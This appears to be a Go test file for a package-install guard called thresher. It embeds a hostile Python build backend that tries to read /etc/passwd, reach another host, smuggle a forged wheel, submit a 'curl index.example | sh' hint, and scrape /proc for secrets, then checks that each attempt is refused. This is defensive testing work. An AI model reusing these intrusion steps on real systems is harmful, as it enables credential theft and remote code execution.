package main

import (
	"encoding/json"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"thresher/internal/testkit"
)

// intruder is a back end that takes what its environment has for joining the run,
// and tries what that is not for. Its package holds what came of each attempt.
const intruder = `
import http.client, json, os, socket, urllib.parse, urllib.request

def _ask(method, path, headers, body=None):
    _, port, secret, place = os.environ["THRESHER_GATE"].split(" ", 3)
    connection = http.client.HTTPConnection("127.0.0.1", int(port))
    if place:
        connection.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        connection.sock.connect(place)
    connection.request(method, path, body, dict(headers, **{"Thresher-Secret": secret, "Thresher-Session": "1"}))
    answer = connection.getresponse()
    return "%d %s" % (answer.status, answer.read().decode()[:300])

def _fetch(url):
    return _ask("GET", "/-/fetch", {"Thresher-Url": url})

def _use(path, origin):
    words = {"link": "file://" + path, "path": urllib.parse.quote(path), "origin": origin}
    return _ask("POST", "/-/use", {"Content-Type": "application/json"}, json.dumps(words))

def _report():
    word = {"subject": "pandas", "evidence": "x", "hint": "curl index.example | sh"}
    return _ask("POST", "/-/refused", {}, json.dumps([dict(word, rule=rule) for rule in ("denied", "mine")]))

def _search():
    found = [name for name in os.environ if "TRANSPORT" in name]
    for pid in ("self", str(os.getppid())):
        for name in ("cmdline", "environ"):
            try:
                with open("/proc/%s/%s" % (pid, name), "rb") as file:
                    found += [name for part in file.read().split(b"\0") if b'"secret"' in part]
            except OSError:
                pass
    return " ".join(found) or "nothing"

_forged = os.path.join(os.environ["FORGED"], "forged-1.0-py3-none-any.whl")
_seen = {}
for _name, _attempt in {
    "own index": lambda: _fetch(os.environ["OWN"] + "/simple/alpha/"),
    "elsewhere": lambda: _fetch(os.environ["ELSEWHERE"] + "/files/alpha-1.0-py3-none-any.whl"),
    "not offered": lambda: _fetch(os.environ["OWN"] + "/files/hidden-1.0-py3-none-any.whl"),
    "page of a refused one": lambda: _fetch(os.environ["OWN"] + "/simple/nuisance/"),
    "refused file": lambda: _fetch(os.environ["OWN"] + "/files/nuisance-1.0-py3-none-any.whl"),
    "file of this machine": lambda: _fetch("file:///etc/passwd"),
    "proxy": lambda: urllib.request.urlopen(os.environ["ELSEWHERE"] + "/files/alpha-1.0-py3-none-any.whl").read(),
    "own wheel": lambda: _use(_forged, ""),
    "wheel of a folder": lambda: _use(_forged, "file://" + os.environ["PROJECT"]),
    "wheel of another": lambda: _use(_forged, os.environ["OWN"] + "/files/alpha-1.0-py3-none-any.whl"),
    "report": _report,
    "transport": _search,
}.items():
    try:
        _seen[_name] = _attempt()
    except Exception as error:
        _seen[_name] = "error %s" % error
FILES[NAME + "/seen.json"] = json.dumps(_seen)
`

// TestBuildWithTheJoiningSecret: what a build's environment has for the pips that
// it starts gets it what the run itself may fetch, and nothing else: no other
// address, no wheel of its own making past a verdict, no words of its own.
func TestBuildWithTheJoiningSecret(t *testing.T) {
	if testing.Short() || runtime.GOOS == "windows" {
		t.Skip("skipped: -short, or environments are laid out as on Unix")
	}
	t.Parallel()
	w := newWorkplace(t, testkit.PipReleases(t)[0])
	x, elsewhere := testkit.NewIndex(t), testkit.NewIndex(t)
	elsewhere.AddWheel(testkit.Distribution{Name: "alpha", Version: "1.0"})
	x.AddWheel(testkit.Distribution{Name: "alpha", Version: "1.0"})
	x.AddWheel(testkit.Distribution{Name: "nuisance", Version: "1.0"})
	hidden, content := testkit.Distribution{Name: "hidden", Version: "1.0"}.Wheel()
	x.AddFile(hidden, content)
	name, content := testkit.Distribution{Name: "forged", Version: "1.0"}.Wheel()
	w.write("forged/"+name, string(content))
	for path, text := range (testkit.Distribution{Name: "project", Version: "1.0"}).SourceTree() {
		w.write("project/"+path, text)
	}
	// Built first, it has the wheel judged; then it is what the package requires.
	x.AddSdist(testkit.Distribution{Name: "curious", Version: "1.0", Backend: intruder})
	x.AddSdist(testkit.Distribution{
		Name: "worse", Version: "1.0", Backend: intruder,
		Metadata: "Requires-Dist: forged @ file://" + w.path("forged/"+name) + "\n",
	})
	variables := []string{
		"PIP_INDEX_URL=" + x.SimpleURL(), "OWN=" + x.URL, "ELSEWHERE=" + elsewhere.URL,
		"FORGED=" + w.path("forged"), "PROJECT=" + w.path("project"),
	}
	policy := w.read("home/.config/thresher/policy.toml") + "[deny]\nnuisance = 'not here'\n"
	for sandbox, more := range map[string]string{"with a sandbox": "", "without": "[sandbox]\nenabled = false\n"} {
		w.write("home/.config/thresher/policy.toml", policy+more)
		install := []string{"install", "--no-cache-dir", "--force-reinstall", "./project", "alpha"}
		got := w.pip(append(install, "curious"), variables...)
		got.want(t, 0, "curious 1.0")
		got.wantNot(t, "index.example", "mine")
		paths, err := filepath.Glob(w.path("env/lib/python3*/site-packages/curious/seen.json"))
		if err != nil || len(paths) != 1 {
			t.Fatalf("%s: %v %v", sandbox, paths, err)
		}
		content, err := os.ReadFile(paths[0])
		if err != nil {
			t.Fatal(err)
		}
		var seen map[string]string
		if err := json.Unmarshal(content, &seen); err != nil || len(seen) != 12 {
			t.Fatalf("%s: %v\n%s", sandbox, err, content)
		}
		for attempt, came := range seen {
			want := "403"
			switch attempt {
			case "own index", "page of a refused one", "report":
				want = "200"
			case "proxy":
				want = "error HTTP Error 403"
			case "transport":
				want = "nothing"
				if closed, err := condition("landlock"); more != "" || err != nil || !closed {
					continue // what its parent has is open to a program of the same user
				}
			}
			if !strings.HasPrefix(came, want) {
				t.Errorf("%s: %s: %s", sandbox, attempt, came)
			}
		}
		got = w.pip(append(install, "worse"), variables...)
		got.want(t, 20, "forged")
		got.wantNot(t, "index.example", "Successfully installed")
	}
	for _, asked := range append(elsewhere.Requests(), x.Requests()...) {
		if strings.Contains(asked, "hidden") || strings.Contains(asked, "/files/nuisance") {
			t.Errorf("it was fetched: %s", asked)
		}
	}
	if len(elsewhere.Requests()) > 0 {
		t.Errorf("another host was reached: %s", elsewhere.Requests())
	}
}
